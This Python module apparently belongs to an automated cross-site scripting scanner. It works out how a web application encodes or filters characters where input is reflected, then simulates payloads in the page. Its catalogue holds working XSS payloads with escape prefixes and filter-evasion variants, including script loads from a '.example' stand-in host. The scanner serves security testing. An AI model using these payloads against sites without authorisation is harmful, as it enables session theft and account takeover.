"""Where does a value come back, what happened to its characters on the way, and what would break out there?

The contexts are not guessed from the text around a marker. One answer shows how the application treats every
character that matters (kept, encoded, escaped, dropped), separately for each place the value comes back; each
candidate payload is then put into that page *here*, treated the same way, and the page is parsed. Only payloads
that would become executable are ever sent. That covers attribute values, raw text elements, script strings,
handlers and their combinations with encoders at no request, because the parser itself is the oracle.
"""

from collections.abc import Iterator, Mapping

from msgspec import Struct
from msgspec.structs import replace

from cyberai.checkkit.echoes import echoes
from cyberai.checkkit.execution import Execution, execution
from cyberai.checkkit.markup import is_xml
from cyberai.domain.http import HttpResponse

CODED = "%51"
"""The letter Q, percent-encoded: it comes back as the letter where the application decodes once more."""

CHARACTERS = (CODED, *"\"'`\\/()=;:{}$&- \n>*,<")
"""What is asked for its fate; `<` last, since a tag filter may swallow what follows it."""

_MAX_PLACES = 40


class Place(Struct, frozen=True):
    """One place where a probe came back: its bytes from `start` to `end`, what became of each character (the
    identity where it is not listed), and whether letters came back in upper case. `taken` is how many characters
    of a probe that was cut off came back, 0 when it was not."""

    start: int
    end: int
    treatment: Mapping[str, bytes]
    upper: bool = False
    taken: int = 0

    @property
    def decodes(self) -> bool:
        """True when the application decodes percent-encoding that it has been sent within the value."""
        return self.treatment.get(CODED, b"").lower() == b"q"

    def treated(self, payload: str) -> bytes:
        """The payload as this place would show it."""
        shown = b"".join(self.treatment.get(char, char.encode("utf-8", "replace")) for char in payload)
        return shown.upper() if self.upper else shown


class Candidate(Struct, frozen=True):
    """A payload pattern (see `filled`) and the manner in which it makes a browser call us; `xml`: only where the
    page is XML."""

    manner: str
    pattern: str
    xml: bool = False


def occurrences(body: bytes, token: str) -> list[int]:
    """Offsets of the token in the body, in lower or upper case, at most 40."""
    found: list[int] = []
    raw, text = token.encode(), body.lower()
    at = text.find(raw)
    while at >= 0 and len(found) < _MAX_PLACES:
        if body[at : at + len(raw)] in (raw, raw.upper()):
            found.append(at)
        at = text.find(raw, at + len(raw))
    return found


def character_probe(token: str, characters: tuple[str, ...] = CHARACTERS) -> str:
    """A value that shows the fate of every character: token, then marks `za`, `zb`, ... around them, `zz`."""
    marked = "".join(f"z{_mark(i)}{char}" for i, char in enumerate(characters))
    return f"{token}{marked}z{_mark(len(characters))}zz"


def places(body: bytes, token: str, characters: tuple[str, ...] = CHARACTERS) -> tuple[Place, ...]:
    """Where a `character_probe` of this token came back, and how."""
    return tuple(_place(body, at, len(token), characters) for at in occurrences(body, token))


def pieces(where: tuple[Place, ...], room: int) -> list[tuple[str, ...]]:
    """The characters that no place showed, in groups whose own probes (with tokens of `SHORT` letters) are no
    longer than `room`."""
    rest = [c for c in CHARACTERS if c != CODED and not any(place.treatment.get(c) for place in where)]
    size = (room - SHORT - 4) // 3
    return [tuple(rest[i : i + size]) for i in range(0, len(rest), size)] if size > 0 else []


def learnt(where: tuple[Place, ...], treatment: Mapping[str, bytes]) -> tuple[Place, ...]:
    """The places with what further probes showed about characters."""
    return tuple(replace(place, treatment={**place.treatment, **treatment}) for place in where)


SHORT = 4
"""Letters of a name where there is little room."""


def plain_places(body: bytes, token: str) -> tuple[Place, ...]:
    """Where a bare token came back; nothing is known about other characters, so they are taken as kept."""
    raw = token.encode()
    return tuple(
        Place(at, at + len(raw), {}, upper=body[at : at + len(raw)] != raw) for at in occurrences(body, token)
    )


def replacing(body: bytes, where: tuple[Place, ...], value: str) -> tuple[Place, ...]:
    """The same places taken together with the original value in front of them: what a payload would get that
    replaces the value instead of following it."""
    return tuple(replace(place, start=_start_of(body, place.start, value)) for place in where)


def _start_of(body: bytes, start: int, value: str) -> int:
    for form in echoes(value):
        if body[:start].endswith(form):
            return start - len(form)
    return start


def simulate(body: bytes, where: tuple[Place, ...], payload: str) -> bytes:
    """The page as it would be with this payload in place of the probe."""
    parts: list[bytes] = []
    last = 0
    for place in where:
        if place.start < last:
            continue
        parts += (body[last : place.start], place.treated(payload))
        last = place.end
    return b"".join((*parts, body[last:]))


def promising(
    page: HttpResponse, where: tuple[Place, ...], name: str, room: int = 0
) -> Iterator[tuple[Candidate, Execution]]:
    """Candidates that would run in this page, tried there with `name`, the plainest first; none longer than `room`,
    where that is given."""
    usable = _usable(where)
    xml = is_xml(page)
    for candidate in CANDIDATES:
        payload = filled(candidate.pattern, name)
        if (candidate.xml and not xml) or (room and len(payload) > room):
            continue
        if set(payload) & _SPECIAL <= usable:
            runs = execution(replace(page, body=simulate(page.body, where, payload)), name)
            if runs is not None:
                yield candidate, runs


def coded(payload: str) -> str:
    """The payload with everything but letters and digits percent-encoded, for an application that decodes twice."""
    return "".join(c if c.isascii() and c.isalnum() else f"%{ord(c):02X}" for c in payload)


def filled(pattern: str, name: str) -> str:
    """The payload of a pattern: `@` is a call of the function `name`, `@CODED` the call in character
    references, `@TAG` the call as a template's tag, `@HOST` a host of that name under a reserved domain (RFC 2606)."""
    coded = "".join(f"&#{ord(char)};" for char in f"{name}()")
    special = (
        pattern.replace("@CODED", coded).replace("@TAG", f"{name}``").replace("@HOST", f"{name}.example")
    )
    return special.replace("@", f"{name}()")


_SPECIAL = frozenset(CHARACTERS)

_VISIBILITY = "oncontentvisibilityautostatechange"
_IN_PLACE: tuple[tuple[str, str], ...] = (
    ("script expression", "-@"),
    ("script expression", ";@"),
    ("script expression", "@"),
    ("script string", "'-@-'"),
    ("script string", '"-@-"'),
    ("script template", "${@}"),
    ("script template", "`-@-`"),
    ("script statement", "';@;'"),
    ("script statement", '";@;"'),
    ("script line", "\n@//"),
    ("script line", "\n@\n"),
    ("script comment", "*/@/*"),
    ("script escape", "\\'-@//"),
    ("script escape", '\\"-@//'),
    ("script escape", "\\')-@//"),
    ("script escape", "\\');@//"),
    ("script escape", '\\");@//'),
    ("script escape", "\\'});@//"),
    ("script escape", '\\"});@//'),
    ("script call", "');@;('"),
    ("script call", '");@;("'),
    ("script object", "'};@;{'"),
    ("script object", '"};@;{"'),
    ("script regular expression", "/-@-/"),
    ("script without parentheses", "'-@TAG-'"),
    ("script without parentheses", '"-@TAG-"'),
    ("script without parentheses", "${@TAG}"),
    ("script without parentheses", "-@TAG"),
    ("script source", "//@HOST/"),
    ("script source", "https://@HOST/"),
    ("script URL", "javascript:@"),
    ("script URL", "JavaScript:@//http://"),
    ("attribute", '"tabindex="1"autofocus=""onfocus="@'),
    ("attribute", "'tabindex='1'autofocus=''onfocus='@"),
    ("attribute", '" tabindex="1" autofocus="" onfocus="@'),
    ("attribute", "' tabindex='1' autofocus='' onfocus='@"),
    ("attribute", '" tabindex=1 autofocus onfocus=@ x="'),
    ("attribute", "' tabindex=1 autofocus onfocus=@ x='"),
    ("attribute", " tabindex=1 autofocus onfocus=@ x="),
    ("attribute", "x tabindex=1 autofocus onfocus=@ "),
    ("attribute", "/tabindex=1/autofocus/onfocus=@/"),
    ("short attribute", '"autofocus onfocus="@'),
    ("short attribute", "'autofocus onfocus='@"),
    ("short attribute", " autofocus onfocus=@ "),
    ("attribute of what loads", '"onload="@"onerror="@'),
    ("attribute of what loads", "'onload='@'onerror='@"),
    ("attribute of what loads", " onload=@ onerror=@ "),
    ("attribute of what is not shown", f'" {_VISIBILITY}="@" style="content-visibility:auto'),
    ("attribute of what is not shown", f"' {_VISIBILITY}='@' style='content-visibility:auto"),
    ("attribute of what is not shown", f"x {_VISIBILITY}=@ style=content-visibility:auto "),
    ("attribute for the pointer", '"onmouseover="@'),
    ("attribute for the pointer", "'onmouseover='@"),
    ("attribute for the pointer", '" onmouseover="@'),
    ("attribute for the pointer", "' onmouseover='@"),
    ("attribute for the pointer", " onmouseover=@ "),
    ("attribute with an access key", '"accesskey="x"onclick="@'),
    ("attribute with an access key", "'accesskey='x'onclick='@"),
    ("attribute with an access key", "x accesskey=x onclick=@ "),
)

_TAGS: tuple[tuple[str, str], ...] = (
    ("element with handler", "<svg/onload=@>"),
    ("script element", "<script>@</script>"),
    # A tab in a scheme is dropped (WHATWG URL), and a word filter does not see it before the entity is read.
    ("frame with coded address", "<iframe src=javas&Tab;cript:@>"),
    ("element with handler and spaces", "<img src=x onerror=@>"),
    ("link", "<a href=javascript:@>x</a>"),
    ("script element, mixed case", "<ScRiPt>@</sCrIpT>"),
    ("script element, nested", "<scr<script>ipt>@</scr</script>ipt>"),
    ("element with handler, unclosed", "<svg/onload=@ "),
    ("frame", "<iframe src=javascript:@>"),
    ("script element from a host", "<script src=//@HOST></script>"),
    ("script element from a host, encrypted", "<script src=https://@HOST></script>"),
    ("element with coded handler", "<svg/onload=@CODED>"),
    ("element with handler, no parentheses", "<svg/onload=@TAG>"),
)

_WAYS_OUT = (
    "",
    '">',
    "'>",
    ">",
    "-->",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "</select>",
    "</xmp>",
    "</iframe>",
    "</noembed>",
    "</noframes>",
    "</template>",
    '"></script>',
    "'></script>",
    '"></noscript>',
    "--></noscript>",
    "]]>",
)


_XML_TAGS: tuple[tuple[str, str], ...] = (
    ("script element", "<script>@</script>"),
    ("script element with its namespace", '<script xmlns="http://www.w3.org/1999/xhtml">@</script>'),
    ("script element with its namespace", "<script xmlns='http://www.w3.org/1999/xhtml'>@</script>"),
    ("animation", '<set xmlns="http://www.w3.org/2000/svg" onbegin="@"/>'),
)
_XML_WAYS_OUT = (
    ("", ""),
    ('">', ""),
    ('"/>', ""),
    ("'>", ""),
    ("'/>", ""),
    ("-->", ""),
    ("]]>", "<![CDATA["),
)

CANDIDATES = (
    *(Candidate(manner, pattern) for manner, pattern in _IN_PLACE),
    *(Candidate(manner, before + pattern) for manner, pattern in _TAGS for before in _WAYS_OUT),
    *(
        Candidate(manner, before + pattern + after, xml=True)
        for manner, pattern in _XML_TAGS
        for before, after in _XML_WAYS_OUT
    ),
)
"""Every payload of the catalogue."""


def _mark(index: int) -> str:
    return "abcdefghijklmnopqrstuvwxy"[index]


def _place(body: bytes, start: int, length: int, characters: tuple[str, ...]) -> Place:
    treatment: dict[str, bytes] = {}
    window = body[start : start + length + 40 * len(characters)]
    upper = window[:length] != window[:length].lower()
    window = window.lower() if upper else window
    at = length
    for index, char in enumerate(characters):
        opening, closing = f"z{_mark(index)}".encode(), f"z{_mark(index + 1)}".encode()
        if not window.startswith(opening, at):
            break
        end = window.find(closing, at + 2)
        if end < 0:
            break
        treatment[char] = window[at + 2 : end]
        at = end
    last = f"z{_mark(len(characters))}zz".encode()
    complete = window.startswith(last, at)
    # A tag filter swallows what follows `<`, and with it the last mark; more is missing only where all was cut off.
    cut = len(treatment) < len(characters) - 1
    taken = length + sum(2 + len(char) for char in treatment) + 2 if cut else 0
    for char in characters:
        # Behind a cut everything is lost; a character whose mark did not come back was cut with it.
        treatment.setdefault(char, b"")
    return Place(start, start + at + (len(last) if complete else 0), treatment, upper, taken)


def _usable(where: tuple[Place, ...]) -> set[str]:
    # A character counts as usable when any place shows it in some form: also an entity is one, inside an attribute.
    return {char for char in CHARACTERS if any(place.treatment.get(char, b"x") for place in where)}
